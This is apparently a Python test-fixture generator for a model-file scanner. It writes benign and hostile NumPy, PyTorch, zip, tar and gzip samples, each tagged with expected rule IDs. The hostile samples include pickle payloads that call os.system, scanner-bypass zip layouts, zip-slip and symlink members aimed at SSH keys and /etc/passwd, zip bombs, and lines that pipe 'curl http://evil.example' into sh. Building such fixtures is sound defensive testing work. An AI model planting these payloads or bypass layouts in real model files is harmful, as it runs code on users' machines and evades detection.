"""Container samples: NumPy .npy/.npz, PyTorch-layout zips, the legacy PyTorch tar, hostile
zips and tars, gzip and zlib streams.

Benign samples are written with the real libraries (numpy, zipfile, tarfile, gzip). Hostile
ones reproduce published attacks and scanner bypasses; their payloads are built with
`__reduce__` returning `(os.system, ('echo pwned',))` and are NEVER loaded here.

PyTorch is not installed, so PyTorch files are written the way `torch.save` lays them out
(`<name>/data.pkl`, `<name>/data/<n>`, `<name>/version`, `<name>/byteorder`,
`<name>/.data/serialization_id`), with a pickle that references `torch._utils.
_rebuild_tensor_v2` and storage persistent ids exactly as torch writes them. The torch
names are provided by stand-in modules inserted into sys.modules only while pickling.
"""
import collections
import contextlib
import gzip
import io
import os
import pathlib
import pickle
import struct
import sys
import tarfile
import types
import zipfile
import zlib

import numpy as np

AREA = "containers"


# ----------------------------------------------------------------------------- payloads

class Payload:
    """Unpickling this runs a shell command. Only ever pickled, never loaded."""

    def __reduce__(self):
        return (os.system, ("echo pwned",))


def evil_pickle(protocol=2):
    return pickle.dumps(Payload(), protocol=protocol)


# ----------------------------------------------------------------------------- torch stand-ins

@contextlib.contextmanager
def torch_names():
    """Stand-in `torch`, `torch._utils` with the names torch.save pickles by reference."""
    saved = {k: sys.modules.get(k) for k in ("torch", "torch._utils")}
    torch = types.ModuleType("torch")
    utils = types.ModuleType("torch._utils")

    def _rebuild_tensor_v2(*args):  # never called
        raise RuntimeError("stand-in")

    _rebuild_tensor_v2.__module__ = "torch._utils"
    _rebuild_tensor_v2.__qualname__ = "_rebuild_tensor_v2"
    utils._rebuild_tensor_v2 = _rebuild_tensor_v2
    storages = {}
    for name in ("FloatStorage", "LongStorage"):
        cls = type(name, (), {"__module__": "torch"})
        setattr(torch, name, cls)
        storages[name] = cls
    torch._utils = utils
    sys.modules["torch"] = torch
    sys.modules["torch._utils"] = utils
    try:
        yield types.SimpleNamespace(rebuild=_rebuild_tensor_v2, **storages)
    finally:
        for k, v in saved.items():
            if v is None:
                sys.modules.pop(k, None)
            else:
                sys.modules[k] = v


class _StorageRef:
    def __init__(self, storage_type, key, numel):
        self.storage_type, self.key, self.numel = storage_type, key, numel


class _Tensor:
    """Pickles as torch.save pickles a tensor: _rebuild_tensor_v2(storage, offset, size,
    stride, requires_grad, backward_hooks)."""

    def __init__(self, t, ref, shape):
        self.t, self.ref, self.shape = t, ref, shape

    def __reduce__(self):
        stride = tuple(int(np.prod(self.shape[i + 1:])) for i in range(len(self.shape)))
        return (self.t.rebuild, (self.ref, 0, tuple(self.shape), stride, False,
                                 collections.OrderedDict()))


class _TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, _StorageRef):
            return ("storage", obj.storage_type, obj.key, "cpu", obj.numel)
        return None


def torch_data_pkl(arrays):
    """data.pkl for a state dict {name: float32 array}, and the storage blobs."""
    with torch_names() as t:
        state = collections.OrderedDict()
        blobs = {}
        for i, (name, a) in enumerate(arrays.items()):
            a = np.ascontiguousarray(a, dtype="<f4")
            ref = _StorageRef(t.FloatStorage, str(i), a.size)
            state[name] = _Tensor(t, ref, a.shape)
            blobs[str(i)] = a.tobytes()
        buf = io.BytesIO()
        _TorchPickler(buf, protocol=2).dump(state)
        return buf.getvalue(), blobs


def torch_zip(path, data_pkl, blobs, prefix="archive", extra=()):
    """A zip laid out as torch.save writes it (stored, data.pkl first)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", data_pkl)
        z.writestr(f"{prefix}/byteorder", "little")
        for key, blob in blobs.items():
            z.writestr(f"{prefix}/data/{key}", blob)
        for name, data in extra:
            z.writestr(name, data)
        z.writestr(f"{prefix}/version", "3\n")
        z.writestr(f"{prefix}/.data/serialization_id", "1234567890123456789012345678901234567890")


def weights():
    rng = np.random.default_rng(7)
    return {"fc.weight": rng.standard_normal((8, 4)), "fc.bias": rng.standard_normal(8)}


# ----------------------------------------------------------------------------- raw zip writer

def raw_zip(entries, prefix=b""):
    """A zip written by hand, for layouts zipfile refuses to produce. Each entry is a dict:
    name, data, and optionally local_name, flags, mode (unix), local_only, method, packed."""
    out = bytearray(prefix)
    cd = bytearray()
    count = 0
    for e in entries:
        name = e["name"].encode() if isinstance(e["name"], str) else e["name"]
        lname = e.get("local_name", name)
        lname = lname.encode() if isinstance(lname, str) else lname
        data = e["data"]
        stored = e.get("packed", data)
        method = e.get("method", 0)
        flags = e.get("flags", 0)
        crc = zlib.crc32(data)
        off = len(out) - len(prefix)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, method, 0, 0x21,
                           crc, len(stored), len(data), len(lname), 0)
        out += lname + stored
        if e.get("local_only"):
            continue
        count += 1
        mode = e.get("mode")
        made_by = 0x0314 if mode is not None else 0x0014
        cd += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", made_by, 20, flags, method, 0,
                          0x21, crc, len(stored), len(data), len(name), 0, 0, 0, 0,
                          (mode or 0) << 16, e.get("offset", off))
        cd += name
    cd_off = len(out) - len(prefix)
    out += cd
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(cd), cd_off, 0)
    return bytes(out)


def miniz_style_zip(data_pkl, blobs, prefix="archive"):
    """The layout PyTorch's miniz-based writer produces: every local header has version 0,
    flags 0x0808 (data descriptor, UTF-8), zero CRC and sizes, and an 'FB' extra field of
    'Z' padding so data starts on a 64-byte boundary; a signed data descriptor follows each
    member; the archive ends with zip64 end records."""
    members = [(f"{prefix}/data.pkl", data_pkl), (f"{prefix}/byteorder", b"little")]
    members += [(f"{prefix}/data/{k}", v) for k, v in blobs.items()]
    members += [(f"{prefix}/version", b"3\n"), (f"{prefix}/.data/serialization_id", b"0" * 40)]
    out = bytearray()
    cd = bytearray()
    for name, data in members:
        n = name.encode()
        off = len(out)
        header_len = 30 + len(n) + 4
        pad = (64 - (off + header_len) % 64) % 64
        extra = struct.pack("<2sH", b"FB", pad) + b"Z" * pad
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 0, 0x0808, 0, 0, 0x21, 0, 0, 0,
                           len(n), len(extra)) + n + extra
        assert len(out) % 64 == 0
        out += data
        crc = zlib.crc32(data)
        out += struct.pack("<4sIII", b"PK\x07\x08", crc, len(data), len(data))
        cd += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 0x031e, 0, 0x0808, 0, 0, 0x21,
                          crc, len(data), len(data), len(n), 0, 0, 0, 0, 0, off) + n
    cd_off = len(out)
    out += cd
    z64 = len(out)
    out += struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 0x031e, 45, 0, 0, len(members),
                       len(members), len(cd), cd_off)
    out += struct.pack("<4sIQI", b"PK\x06\x07", 0, z64, 1)
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(cd),
                       cd_off, 0)
    return bytes(out)


# ----------------------------------------------------------------------------- samples

def generate(out: pathlib.Path) -> list:
    d = out / AREA
    d.mkdir(parents=True, exist_ok=True)
    entries = []

    def add(name, expect, rules, note):
        entries.append({"path": f"{AREA}/{name}", "expect": expect, "rules": rules, "note": note})

    # --- NumPy, benign
    np.save(d / "npy_float.npy", np.arange(12.0).reshape(3, 4))
    add("npy_float.npy", "benign", [], "np.save of a float64 array")
    structured = np.zeros(3, dtype=[("x", "<f8"), ("y", "<i4", (2,)), ("label", "<U8")])
    structured["label"] = ["a", "bb", "ccc"]
    np.save(d / "npy_structured.npy", structured)
    add("npy_structured.npy", "benign", [], "np.save of a structured array with a sub-array and a unicode field")
    np.save(d / "npy_fortran_bool.npy", np.asfortranarray(np.eye(5, dtype=bool)))
    add("npy_fortran_bool.npy", "benign", [], "Fortran-ordered bool array")
    np.save(d / "npy_datetime.npy", np.array(["2024-01-01", "2025-06-30"], dtype="datetime64[ns]"))
    add("npy_datetime.npy", "benign", [], "datetime64[ns] array")
    np.savez(d / "npz_plain.npz", w=np.ones((16, 16), "f4"), b=np.arange(16), s=structured)
    add("npz_plain.npz", "benign", [], "np.savez: stored zip of .npy members (zip64 local extras)")
    np.savez_compressed(d / "npz_compressed.npz", w=np.random.default_rng(1).standard_normal((64, 64)),
                        mask=np.zeros((1024, 1024), "u1"), s=structured)
    add("npz_compressed.npz", "benign", [], "np.savez_compressed with a 1 MiB all-zero member")

    # --- NumPy, hostile
    obj = np.empty(2, dtype=object)
    obj[0] = "label"
    obj[1] = Payload()
    np.save(d / "npy_object_payload.npy", obj, allow_pickle=True)
    add("npy_object_payload.npy", "malicious", ["NPY001"],
        "object array whose pickle calls os.system (numpy.load(allow_pickle=True) runs it)")
    np.savez(d / "npz_object_payload.npz", weights=np.ones(4), meta=obj)
    add("npz_object_payload.npz", "malicious", ["NPY001"],
        "npz with an object-array member carrying an os.system payload")
    rec = np.empty(1, dtype=[("w", "<f4"), ("extra", "O")])
    rec["extra"][0] = Payload()
    np.save(d / "npy_structured_object.npy", rec, allow_pickle=True)
    add("npy_structured_object.npy", "malicious", ["NPY001"],
        "structured dtype with an 'O' field: the data part is a pickle with a payload")
    buf = io.BytesIO()
    np.save(buf, np.zeros(4, "<f8"))
    (d / "npy_trailing_zip.npy").write_bytes(
        buf.getvalue() + raw_zip([{"name": "archive/data.pkl", "data": evil_pickle()}]))
    add("npy_trailing_zip.npy", "malicious", ["NPY002"],
        "zip with a malicious pickle appended after an array's data (numpy ignores it)")

    # --- PyTorch zip layout
    data_pkl, blobs = torch_data_pkl(weights())
    torch_zip(d / "pytorch_benign.pt", data_pkl, blobs)
    add("pytorch_benign.pt", "benign", [], "torch.save layout: data.pkl + data/<n> storages + version + byteorder")
    (d / "pytorch_miniz_layout.pt").write_bytes(miniz_style_zip(data_pkl, blobs))
    add("pytorch_miniz_layout.pt", "benign", [],
        "layout of PyTorchStreamWriter (miniz): flags 0x0808, sizes in data descriptors, 'FB' "
        "padding extra fields aligning data to 64 bytes, zip64 end records")
    torch_zip(d / "pytorch_malicious.pt", evil_pickle(), blobs)
    add("pytorch_malicious.pt", "malicious", ["PKL001"], "torch.save layout whose data.pkl calls posix.system")
    torch_zip(d / "pytorch_hidden_storage.pt", data_pkl, dict(blobs, **{"2": evil_pickle()}))
    add("pytorch_hidden_storage.pt", "malicious", ["ZIP015"],
        "payload pickle disguised as a tensor storage blob archive/data/2")
    torch_zip(d / "pytorch_hidden_extra.pt", data_pkl, blobs, extra=[("archive/extra.bin", evil_pickle(4))])
    add("pytorch_hidden_extra.pt", "malicious", ["PKL001"],
        "payload pickle under a non-standard member name archive/extra.bin")
    (d / "pickle_zip_polyglot.pt").write_bytes(
        data_pkl + raw_zip([{"name": "archive/data.pkl", "data": evil_pickle()}]))
    add("pickle_zip_polyglot.pt", "malicious", ["ZIP013", "PKL001"],
        "polyglot: a benign pickle read from the front (torch legacy load), a zip found from "
        "the end (zipfile) whose data.pkl calls posix.system")

    # --- hostile zips
    (d / "zip_traversal.zip").write_bytes(raw_zip([
        {"name": "../../../../home/user/.bashrc", "data": b"curl http://evil.example | sh\n"},
        {"name": "model/config.json", "data": b"{}"}]))
    add("zip_traversal.zip", "malicious", ["ZIP001"], "zip slip: member name climbs out with ../")
    with zipfile.ZipFile(d / "zip_absolute.zip", "w") as z:
        z.writestr(zipfile.ZipInfo("model/w.txt"), "ok")
        info = zipfile.ZipInfo("x")
        info.filename = "/etc/cron.d/evil"  # bypass zipfile's sanitising of the name
        z.writestr(info, "* * * * * root sh -c 'echo pwned'\n")
    add("zip_absolute.zip", "malicious", ["ZIP001"], "absolute member name /etc/cron.d/evil")
    (d / "zip_symlink.zip").write_bytes(raw_zip([
        {"name": "model/weights.bin", "data": b"/home/user/.ssh/id_rsa", "mode": 0o120777},
        {"name": "model/config.json", "data": b"{}"}]))
    add("zip_symlink.zip", "malicious", ["ZIP003"], "member with a unix symlink mode pointing at a private key")
    (d / "zip_duplicate.pt").write_bytes(raw_zip([
        {"name": "archive/data.pkl", "data": data_pkl},
        {"name": "archive/version", "data": b"3\n"},
        {"name": "archive/data.pkl", "data": evil_pickle()}]))
    add("zip_duplicate.pt", "malicious", ["ZIP007"],
        "two data.pkl members: a scanner reading the first sees benign, zipfile loads the last")
    (d / "zip_name_mismatch.pt").write_bytes(raw_zip([
        {"name": "archive/data.pkl", "local_name": "archive/data.txt", "data": evil_pickle()},
        {"name": "archive/version", "data": b"3\n"}]))
    add("zip_name_mismatch.pt", "malicious", ["ZIP004"],
        "local header names data.txt, central directory data.pkl (bytes patched after writing)")
    (d / "zip_encrypted_flag.pt").write_bytes(raw_zip([
        {"name": "archive/data.pkl", "data": evil_pickle(), "flags": 1},
        {"name": "archive/version", "data": b"3\n"}]))
    add("zip_encrypted_flag.pt", "malicious", ["ZIP009"],
        "encrypted flag on a stored, clear payload pickle: zipfile-based scanners give up, torch loads it (CVE-2025-1945 style)")
    (d / "zip_local_only.pt").write_bytes(raw_zip([
        {"name": "archive/data.pkl", "data": data_pkl},
        {"name": "archive/payload.pkl", "data": evil_pickle(), "local_only": True},
        {"name": "archive/version", "data": b"3\n"}]))
    add("zip_local_only.pt", "malicious", ["ZIP006"],
        "payload member present only as a local header: streaming extractors see it, zipfile does not")
    stub = b"#!/bin/sh\ncurl -s http://evil.example/x | sh\nexit 0\n"
    inner = io.BytesIO()
    torch_zip(inner, evil_pickle(), {})
    (d / "zip_prefix_stub.zip").write_bytes(stub + inner.getvalue())
    add("zip_prefix_stub.zip", "malicious", ["ZIP013"],
        "shell stub prepended to a zip (offsets shifted); zipfile still opens it")
    bomb_entries = [{"name": "a", "data": b"\0" * 4096}]
    bomb_entries += [{"name": f"a{i}", "data": b"\0" * 4096, "offset": 0} for i in range(50)]
    (d / "zip_overlap.zip").write_bytes(_overlapping(bomb_entries))
    add("zip_overlap.zip", "malicious", ["ZIP008"],
        "51 directory records sharing one local header (overlapping-file zip bomb)")
    with zipfile.ZipFile(d / "zip_bomb.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        with z.open("weights.bin", "w", force_zip64=True) as f:
            chunk = b"\0" * (1 << 20)
            for _ in range(1024):
                f.write(chunk)
    add("zip_bomb.zip", "malicious", ["CMP001"], "1 GiB of zeros deflated into about 1 MiB")

    # --- tar
    with tarfile.open(d / "tar_traversal.tar", "w", format=tarfile.GNU_FORMAT) as t:
        _add_bytes(t, "model/config.json", b"{}")
        _add_bytes(t, "../../../etc/profile.d/evil.sh", b"echo pwned\n")
        link = tarfile.TarInfo("model/weights.bin")
        link.type = tarfile.SYMTYPE
        link.linkname = "/etc/passwd"
        t.addfile(link)
    add("tar_traversal.tar", "malicious", ["TAR001", "TAR002"], "tar with a ../ member and a symlink to /etc/passwd")
    model_dir = io.BytesIO()
    torch_zip(model_dir, data_pkl, blobs, prefix="model")
    npy = io.BytesIO()
    np.save(npy, np.ones((4, 4), "f4"))
    with tarfile.open(d / "model_clean.tar.gz", "w:gz") as t:
        _add_bytes(t, "model/config.json", b'{"hidden_size": 4}')
        _add_bytes(t, "model/pytorch_model.bin", model_dir.getvalue())
        _add_bytes(t, "model/embeddings.npy", npy.getvalue())
        _add_bytes(t, "model/README.md", b"# A small model\n")
    add("model_clean.tar.gz", "benign", [], ".tar.gz of a clean model directory")
    evil_zip = io.BytesIO()
    torch_zip(evil_zip, evil_pickle(), blobs)
    tar_buf = io.BytesIO()
    with tarfile.open(fileobj=tar_buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        _add_bytes(t, "bundle/" + "deep/" * 30 + "model.pt", evil_zip.getvalue())  # PAX long name
    (d / "nested_bundle.tar.gz").write_bytes(gzip.compress(tar_buf.getvalue()))
    add("nested_bundle.tar.gz", "malicious", ["PKL001"], "malicious pickle in a zip in a tar (PAX long name) in a gzip")
    with gzip.GzipFile(d / "model.bin.gz", "wb", mtime=0) as g:
        g.write(evil_pickle())
    add("model.bin.gz", "malicious", ["PKL001"], "gzip'd malicious pickle (torch.load(gzip.open(...)))")
    (d / "joblib_style.pkl.z").write_bytes(zlib.compress(evil_pickle(), 3))
    add("joblib_style.pkl.z", "malicious", ["PKL001"], "zlib stream (joblib compress=) holding a payload pickle")

    # --- PyTorch legacy tar
    _legacy_tar(d / "pytorch_legacy.tar", payload_in=None)
    add("pytorch_legacy.tar", "benign", [], "legacy torch tar: sys_info, pickle, storages, tensors")
    _legacy_tar(d / "pytorch_legacy_views_payload.tar", payload_in="storages")
    add("pytorch_legacy_views_payload.tar", "malicious", ["PKL001"],
        "legacy torch tar whose last pickle in 'storages' (after raw tensor bytes) carries the payload")
    _legacy_tar(d / "pytorch_legacy_pickle_payload.tar", payload_in="pickle")
    add("pytorch_legacy_pickle_payload.tar", "malicious", ["PKL001"], "legacy torch tar whose 'pickle' member calls os.system")
    return entries


def _overlapping(entries):
    """One local header, many central records pointing at it."""
    first = entries[0]
    body = raw_zip([first])
    # Rebuild with extra central records at offset 0.
    local_end = body.index(b"PK\x01\x02")
    out = bytearray(body[:local_end])
    cd = bytearray()
    for e in entries:
        name = e["name"].encode()
        data = first["data"]
        cd += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21,
                          zlib.crc32(data), len(data), len(data), len(name), 0, 0, 0, 0, 0, 0)
        cd += name
    cd_off = len(out)
    out += cd
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(cd), cd_off, 0)
    return bytes(out)


def _add_bytes(t, name, data):
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mtime = 0
    t.addfile(info, io.BytesIO(data))


def _legacy_tar(path, payload_in):
    """The legacy layout torch.serialization._legacy_load reads."""
    arrays = weights()
    with torch_names() as t:
        keys = [str(100 + i) for i in range(len(arrays))]
        storages = io.BytesIO()
        pickle.dump(len(arrays), storages, protocol=2)
        for key, a in zip(keys, arrays.values()):
            a = np.ascontiguousarray(a, dtype="<f4")
            pickle.dump((key, "cpu", t.FloatStorage), storages, protocol=2)
            storages.write(struct.pack("<q", a.size))
            storages.write(a.tobytes())
        views = Payload() if payload_in == "storages" else []
        pickle.dump(views, storages, protocol=2)

        tensors = io.BytesIO()
        pickle.dump(len(arrays), tensors, protocol=2)
        for i, (key, a) in enumerate(zip(keys, arrays.values())):
            pickle.dump((str(i), key, t.FloatStorage), tensors, protocol=2)
            tensors.write(struct.pack("<ii", a.ndim, 0))
            tensors.write(struct.pack(f"<{a.ndim}q", *a.shape))
            strides = [int(np.prod(a.shape[j + 1:])) for j in range(a.ndim)]
            tensors.write(struct.pack(f"<{a.ndim}q", *strides))
            tensors.write(struct.pack("<q", 0))

        class _Pickler(pickle.Pickler):
            def persistent_id(self, obj):
                return obj.key if isinstance(obj, _StorageRef) else None

        main = io.BytesIO()
        if payload_in == "pickle":
            main.write(evil_pickle())
        else:
            state = collections.OrderedDict(
                (name, _StorageRef(t.FloatStorage, str(i), 0)) for i, name in enumerate(arrays))
            _Pickler(main, protocol=2).dump(state)
        sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                 "type_sizes": {"short": 2, "int": 4, "long": 8}}, protocol=2)
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tf:
        _add_bytes(tf, "sys_info", sys_info)
        _add_bytes(tf, "pickle", main.getvalue())
        _add_bytes(tf, "storages", storages.getvalue())
        _add_bytes(tf, "tensors", tensors.getvalue())


if __name__ == "__main__":
    import json
    print(json.dumps(generate(pathlib.Path(sys.argv[1])), indent=1))
